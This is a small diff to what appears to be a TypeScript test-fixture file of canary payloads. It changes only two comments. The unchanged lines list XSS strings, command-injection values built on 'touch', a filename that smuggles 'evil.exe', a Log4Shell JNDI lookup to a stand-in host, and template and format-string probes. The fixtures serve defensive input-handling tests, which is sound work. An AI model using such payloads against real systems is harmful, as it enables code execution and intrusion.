@@ -2,7 +2,7 @@
 
 export const marker = 'c4n4ry'
 
-/** Markup and addresses that run, where somebody takes a text for a page. */
+/** Markup and addresses that would run if text were treated as a page. */
 export const scripts = [
   '<script>window.hacked="c4n4ry"</script>',
   '<img src=x onerror=window.hacked="c4n4ry">',
@@ -42,7 +42,7 @@ export const paths = [
   'CON c4n4ry. ',
   "c4n4ry.pdf\"; filename*=UTF-8''evil.exe",
   '$(touch c4n4ry) `touch c4n4ry` ; touch c4n4ry | tee c4n4ry',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the template that somebody else would fill in
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a template is what is tested
   '${jndi:ldap://c4n4ry.example/a} #{7*7} <%= 7*7 %> %s%n%x',
   '{{contact:email}} $& $1 $` c4n4ry',
 ] as const
